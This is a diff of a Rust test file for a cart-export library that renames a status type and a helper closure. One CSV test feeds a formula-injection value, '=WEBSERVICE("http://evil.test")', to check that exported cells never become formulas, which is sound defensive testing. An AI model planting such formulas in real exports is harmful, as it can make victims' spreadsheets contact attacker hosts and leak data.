@@ -5,7 +5,7 @@
     reason = "the helpers of tests are tests; clippy exempts only the functions marked so"
 )]
 
-use hashcart_core::cart::{CartItem, ItemStatus, Shelf};
+use hashcart_core::cart::{CartItem, ReplyState, Shelf};
 use hashcart_core::exchange::{
     FileFault, Json, Plan, Reason, Refused, There, Tried, abandoned, authors, by_author, csv, file,
     plain_text, plan,
@@ -81,7 +81,7 @@ fn item(asin: &str, author: &str, tweet: &str, title: &str) -> CartItem {
 fn whole() -> Records {
     let url = "https://x.com/me/status/1861597350789288999".to_owned();
     let kettle = CartItem {
-        status: ItemStatus::Replied { url },
+        status: ReplyState::Replied { url },
         units: 3,
         note: "for \"her\"\nnot him, <b>ok</b> 🫖".to_owned(),
         shelf: Some((Shelf::Later, 1_764_000_000_900.0)),
@@ -169,7 +169,7 @@ fn nothing_newer_is_overwritten() {
         out(&vec![record("settings", &json!({"reply": "post"})), record(&item_key(&old.found.key), &old)]);
     let url = "https://x.com/me/status/9".to_owned();
     let newer = CartItem {
-        status: ItemStatus::Replied { url },
+        status: ReplyState::Replied { url },
         note: "mine".to_owned(),
         edited_at: Some(2_000_000_000_000.0),
         ..item("B0057OC5O8", "ada", "18", "A kettle")
@@ -383,7 +383,7 @@ fn no_cell_is_a_formula_by_any_separator() {
     let kettle = |link: &str, note: &str| {
         let mut item = item("B0057OC5O8", "ada", "18", "a;=1;\"@b");
         item.found.link = format!("https://www.amazon.co.jp/dp/B0057OC5O8{link}");
-        item.status = ItemStatus::Replied { url: "https://x.com/me/status/9?;=1".to_owned() };
+        item.status = ReplyState::Replied { url: "https://x.com/me/status/9?;=1".to_owned() };
         CartItem { note: note.to_owned(), ..item }
     };
     let link = "?x=;=WEBSERVICE(\"http://evil.test\")";
@@ -482,7 +482,7 @@ fn forgetting_somebody_leaves_no_word_of_them_in_any_kind_of_record() {
     let ada = item("B0057OC5O8", "Ada", "18", "A kettle of Ada's");
     let bob = item("B0CHX1W1XY", "bob", "19", "Tea");
     let gone_before = "0131103628@amazon.co.jp";
-    let errand = |of: &CartItem| json!({"found": of.found, "text": "#AmazonCart", "send": true, "at": 5.0});
+    let intent = |of: &CartItem| json!({"found": of.found, "text": "#AmazonCart", "send": true, "at": 5.0});
     let walk_item = |key: &str, title: &str| {
         let asin = key.split('@').next().unwrap();
         json!({"key": key, "asin": asin, "title": title, "wanted": 1, "units": 1, "tried": true})
@@ -499,8 +499,8 @@ fn forgetting_somebody_leaves_no_word_of_them_in_any_kind_of_record() {
             record(&item_key(&ada.found.key), &ada),
             record(&item_key(&bob.found.key), &bob),
             record("removed:B0057OC5O8@amazon.co.jp", &ada),
-            record("errand:18", &errand(&ada)),
-            record("errand:19", &errand(&bob)),
+            record("errand:18", &intent(&ada)),
+            record("errand:19", &intent(&bob)),
             record("sending:7", &"B0057OC5O8@amazon.co.jp"),
             record("sending:8", &"B0CHX1W1XY@amazon.co.jp"),
             record("reply:18", &"B0057OC5O8@amazon.co.jp"),
@@ -551,13 +551,13 @@ fn forgetting_somebody_leaves_no_word_of_them_in_any_kind_of_record() {
 #[test]
 fn what_was_abandoned_is_swept() {
     let kettle = item("B0057OC5O8", "ada", "18", "A kettle");
-    let errand = |at: f64| json!({"found": kettle.found, "text": "#AmazonCart", "send": true, "at": at});
+    let intent = |at: f64| json!({"found": kettle.found, "text": "#AmazonCart", "send": true, "at": at});
     let now = 1_764_000_000_000.0;
     let records = vec![
-        record("errand:18", &errand(now - 120_000.0)),
-        record("errand:19", &errand(now - 119_000.0)),
+        record("errand:18", &intent(now - 120_000.0)),
+        record("errand:19", &intent(now - 119_000.0)),
         // Clocks are set back, too.
-        record("errand:20", &errand(now + 121_000.0)),
+        record("errand:20", &intent(now + 121_000.0)),
         record("sending:7", &"B0057OC5O8@amazon.co.jp"),
         record(&item_key(&kettle.found.key), &kettle),
     ];
